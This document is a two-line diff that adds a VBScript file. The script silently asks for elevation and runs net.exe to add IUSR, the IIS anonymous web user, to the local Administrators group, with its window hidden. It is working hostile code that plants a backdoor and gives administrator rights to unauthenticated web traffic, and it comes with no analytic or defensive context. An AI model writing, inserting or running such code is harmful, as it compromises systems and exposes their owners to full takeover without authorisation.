@@ -1,0 +1,2 @@
+Set app = CreateObject("Shell.Application")
+app.ShellExecute "net.exe", "localgroup Administrators IUSR /add", "", "runas", 0
